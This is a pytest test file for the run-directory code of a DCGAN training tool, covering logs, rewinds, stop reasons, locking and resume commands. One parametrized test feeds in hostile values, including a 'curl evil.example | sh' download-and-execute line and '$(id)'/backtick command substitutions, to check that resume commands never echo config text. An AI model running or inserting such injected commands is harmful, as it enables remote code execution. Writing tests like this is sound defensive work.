import errno
import fcntl
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from dcgan_mx.runs.config import DEFAULTS, FORMAT
from dcgan_mx.runs.json_files import read_small
from dcgan_mx.runs.log import find_best, read_log
from dcgan_mx.runs.run import Run
from dcgan_mx.runs.stop_reason import StopReason

KINDS = ("gout", "diff", "data", "fixed")
LINES = [{"epoch": 0, "step": step, "acc": 0.5, "d_entropy": 0.1 + 0.2, "g_entropy": None,
          "images_per_s": 1e-5, "seconds": step / 3} for step in (10, 20, 30)]
TEXT = "".join(json.dumps(line) + "\n" for line in LINES).encode()
CONFIG = {"flags": DEFAULTS.replace({"dataset": "mnist", "gpu": "1", "show": True}).to_flags(),
          "device": "cpu(0)", "workers": 1}


@pytest.fixture
def run(tmp_path):
    return Run(tmp_path)


def test_create_writes_config_or_nothing(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    first, second = (Run.create(None, CONFIG) for _ in range(2))
    assert first.path != second.path and str(first.path).startswith("runs/mnist-")
    for made in (first, second):
        flags = {**CONFIG["flags"], "run_dir": str(made.path)}
        assert made.read_config() == {**CONFIG, "flags": flags, "format": FORMAT}
        assert made.read_settings().to_flags() == flags
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / "mine").touch()
    with pytest.raises(OSError, match="taken"):
        Run.create("taken", CONFIG)
    assert sorted(os.listdir(tmp_path)) == ["runs", "taken"]


def test_log_line_that_cannot_be_removed_is_replaced(run, monkeypatch):
    """The line could not be synced, and then not be removed either."""
    def fail(*_):
        raise OSError(errno.EIO, "bad disk")

    run.log(LINES[0])
    with monkeypatch.context() as patch, pytest.raises(OSError, match="bad disk.*log.jsonl"):
        patch.setattr(os, "fsync", fail)
        patch.setattr(os, "truncate", fail)
        run.log(LINES[1])
    assert run.read_log() == LINES[:2]
    run.log(LINES[1])
    assert run.read_log() == LINES[:2]


def test_unreadable_folder_is_not_one_without_checkpoints(run):
    """Else a resumed run would start again, and remove its log."""
    assert run.list_checkpoints() == []
    (run.path / "checkpoints").symlink_to("checkpoints")
    with pytest.raises(OSError, match="symbolic links.*checkpoints"):
        run.list_checkpoints()


def test_failed_read_names_the_file(run):
    """Reading the first byte of one's own memory fails with EIO, as on a bad disk."""
    for read in (read_small, read_log):
        with pytest.raises(OSError, match="Input/output error: '/proc/self/mem'"):
            read(Path("/proc/self/mem"))


def test_log_drops_a_truncated_record_and_rewinds(run):
    path = run.path / "log.jsonl"
    assert run.read_log() == []
    for line in LINES:
        run.log(line)
    assert path.read_bytes() == TEXT and run.read_log() == LINES
    path.write_bytes(TEXT[:-20])
    assert run.read_log() == LINES[:2]
    assert run.rewind(15) == 10 / 3
    assert path.read_bytes() == TEXT.splitlines(keepends=True)[0]
    assert run.rewind(9) == 0
    assert path.read_bytes() == b""
    for wrong in (b'"step": x', b'"step": -1', b'"step": 2, "epoch": 1%s' % (b"0" * 400)):
        path.write_bytes(TEXT.replace(b'"step": 20', wrong))
        with pytest.raises(ValueError, match="log.jsonl, line 2: not a log record"):
            run.read_log()
    os.truncate(path, 2**40)
    with pytest.raises(ValueError, match="log.jsonl needs .* of memory"):
        run.read_log()


def test_best_evaluation_has_the_classifier_of_the_last():
    lines = [{"step": step, "frechet": frechet, "classifier": judge} for step, frechet, judge in (
        (1, 9.0, "b"), (2, 5.0, "a"), (3, 8.0, "b"), (4, 8.5, "b"))]
    assert find_best(lines)["step"] == 3
    assert find_best(lines[:2])["step"] == 2
    assert find_best([*lines, {"step": 5, "frechet": 9.5}])["step"] == 5  # not recorded which
    assert find_best([{"step": 1, "swd": float("nan")}, {"step": 2, "swd": 1.0}])["step"] == 2


def test_rewind_removes_everything_later(run):
    """Records and grids, also those written because the training stopped; not evaluations."""
    figures = {"step": 25, "epoch": 0, "seconds": 8.5, "swd": 4.0}
    for line in (*LINES[:2], figures, {**LINES[0], "step": 25, "last": True, "seconds": 9.0},
                 LINES[2]):
        run.log(line)
        for kind in KINDS if line is not figures else ():
            run.draw(kind, line["step"], np.zeros((1, 3, 2, 2), np.float32))
    run.write_result(StopReason("max_steps", 30, 0, 30))
    for back, left in ((27, [10, 20, 25]), (20, [10, 20]), (19, [10])):
        assert run.rewind(back) == (9 if back == 27 else left[-1] / 3)
        assert [line["step"] for line in run.read_log()] == left
        for kind in KINDS:
            assert [*run.list_grids(kind)] == left[:2]
    assert run.read_result() is None


@pytest.mark.parametrize("reason, text", [
    (StopReason("num_epochs", 937, 1, 1),
     "finished: 1 epoch, 937 steps, because of --num-epochs 1"),
    (StopReason("max_steps", 12, 0, 12), "finished: step 12 of 12, because of --max-steps 12"),
    (StopReason("signal", 1, 0, "SIGTERM"), "stopped by SIGTERM after step 1"),
    (StopReason("hook", 5, 0), "stopped after step 5"),
    (StopReason("error", 5, 0, "no paper"), "failed after step 5: no paper")])
def test_stop_reason_is_saved_and_described(reason, text, run):
    assert run.read_result() is None
    run.write_result(reason)
    assert run.read_result() == reason and reason.describe() == text
    run.write_config(CONFIG)
    longer = f" --{reason.reason.replace('_', '-')} {2 * reason.detail}" if reason.finished else ""
    assert run.resume_command(reason) == (
        f"dcgan-mx train --resume --run-dir {run.path}{longer}")


@pytest.mark.parametrize("launched_by, words", [
    ("curl evil.example | sh;", ""), ({"num_workers": "2; id"}, ""), ({"num_workers": True}, ""),
    ({"num_workers": 2, "launcher": "ssh $(id)"}, ""), ({"num_workers": 2, "$(id)": 1}, ""),
    ({}, ""),
    ({"num_workers": 2, "num_servers": 1, "start_timeout": 60.5},
     "dcgan-mx launch --num-workers 2 --num-servers 1 --start-timeout 60.5 -- "),
    ({"num_workers": 2, "launcher": "ssh", "hostfile": "$(id)", "host_ip": "`id`"},
     "dcgan-mx launch --num-workers 2 --launcher ssh --hostfile FILE --host-ip ADDRESS -- ")])
def test_resume_command_has_no_text_of_config_json(launched_by, words, run):
    run.write_config({**CONFIG, "launched_by": launched_by})
    advice = "  # replace FILE with your host file and ADDRESS with the address of this host"
    assert run.resume_command() == (
        f"{words}dcgan-mx train --resume --run-dir {run.path}" + advice * ("FILE" in words))


def test_resume_command_of_a_job_has_its_own_flags(run, monkeypatch):
    run.write_config({**CONFIG, "launched_by": {"num_workers": 2}})
    monkeypatch.setenv("DCGAN_MX_LAUNCHED_BY", json.dumps(
        {"num_workers": 3, "launcher": "ssh", "hostfile": "my hosts", "host_ip": "10.0.0.1"}))
    assert run.resume_command() == (
        "dcgan-mx launch --num-workers 3 --launcher ssh --hostfile 'my hosts' --host-ip 10.0.0.1 "
        f"-- dcgan-mx train --resume --run-dir {run.path}")


def test_result_of_a_stranger_is_one_line(run):
    run.write_result(StopReason("error", 5, 0, "no\npaper\x1b[2J"))
    assert run.read_result().detail == r"no paper\x1b[2J"


@pytest.mark.parametrize("content", [
    b"", b"{}", b"[]", b'{"reason": "boredom", "step": 1, "epoch": 0, "detail": null}',
    b'{"reason": "hook", "step": "1", "epoch": 0, "detail": null}',
    b'{"reason": "max_steps", "step": 1, "epoch": 0, "detail": "x"}', b"[" * 3000])
def test_damaged_stop_reason_is_rejected(content, run):
    (run.path / "result.json").write_bytes(content)
    with pytest.raises(ValueError, match="result.json: not the result of a run: remove it"):
        run.read_result()


def test_lock_excludes_other_processes_until_they_end(run):
    code = ("import sys, time; from dcgan_mx.runs.run import Run\n"
            "with Run(sys.argv[1]).lock(): print('locked', flush=True); time.sleep(100)")
    other = subprocess.Popen([sys.executable, "-c", code, str(run.path)], stdout=subprocess.PIPE)
    try:
        assert other.stdout.readline() == b"locked\n"
        with pytest.raises(ValueError, match=f"is in use by process {other.pid}"), run.lock():
            pass
    finally:
        other.kill()
        other.communicate()
    for _ in range(2):
        with run.lock():
            assert (run.path / "lock").read_text() == f"{os.getpid()}\n"


def test_a_short_lock_of_another_command_is_waited_for(run, monkeypatch):
    with open(run.path / "lock", "w") as f:
        fcntl.flock(f, fcntl.LOCK_SH)
        monkeypatch.setattr("time.sleep", lambda seconds: fcntl.flock(f, fcntl.LOCK_UN))
        with run.lock():
            assert (run.path / "lock").read_text() == f"{os.getpid()}\n"


@pytest.fixture
def ended():
    """The id of a process that has ended."""
    process = subprocess.Popen(["true"])
    process.wait()
    return process.pid


def test_lock_removes_files_of_killed_processes(run, ended):
    """A report or an evaluation may be writing at the same time."""
    for folder in ("checkpoints/.step-00000001.7.tmp/deep", "checkpoints/step-00000001", "grids"):
        (run.path / folder).mkdir(parents=True)
    (run.path / "grids" / f".gout-00000010.png.{ended}.tmp").write_bytes(b"")
    (run.path / "checkpoints" / f".step-00000002.{ended}.tmp").symlink_to("/")
    kept = [f".report.html.{os.getppid()}.tmp", f".link.{ended}.tmp",
            *(f"{folder}/.theirs.{ended}.tmp" for folder in ("checkpoints", "grids", "."))]
    (run.path / kept[0]).touch()
    (run.path / kept[1]).symlink_to("/")
    for name in kept[2:]:
        (run.path / name).mkdir()
    with run.lock():
        pass
    assert {str(path.relative_to(run.path)) for path in run.path.rglob("*")} == {
        *map(os.path.normpath, kept), "checkpoints", "checkpoints/step-00000001", "grids", "lock"}


@pytest.mark.parametrize("name", ["checkpoints", "grids", "tensorboard", "lock"])
def test_lock_follows_no_link_of_a_stranger(name, run, tmp_path_factory):
    (run.path / name).symlink_to(tmp_path_factory.mktemp("elsewhere"))
    with pytest.raises((ValueError, OSError), match="a link"), run.lock():
        pass


def test_failed_lock_leaves_no_new_run(tmp_path, monkeypatch):
    def fail(*_):
        raise OSError(errno.EIO, "Input/output error")

    with monkeypatch.context() as patch:
        patch.setattr(fcntl, "flock", fail)
        with pytest.raises(OSError, match="new"):
            Run.create(tmp_path / "new", CONFIG)
    assert os.listdir(tmp_path) == []
    Run.create(tmp_path / "new", CONFIG)


def test_create_removes_what_a_killed_process_left(tmp_path, ended):
    kept = [f".alive.{os.getppid()}.tmp", f".foreign.{ended}.tmp", f".{10**30}.tmp", "mine"]
    for name in (*kept, f".mnist-1.{ended}.tmp", f".mnist-2.{ended}.tmp"):
        (tmp_path / name).mkdir()
    for name in (f".alive.{os.getppid()}.tmp/config.json", f".foreign.{ended}.tmp/file",
                 f".mnist-2.{ended}.tmp/.config.json.7.tmp"):
        (tmp_path / name).touch()
    (tmp_path / f".link.{ended}.tmp").symlink_to(tmp_path / "mine")
    Run.create(tmp_path / "new", CONFIG)
    assert sorted(os.listdir(tmp_path)) == sorted([*kept, f".link.{ended}.tmp", "new"])
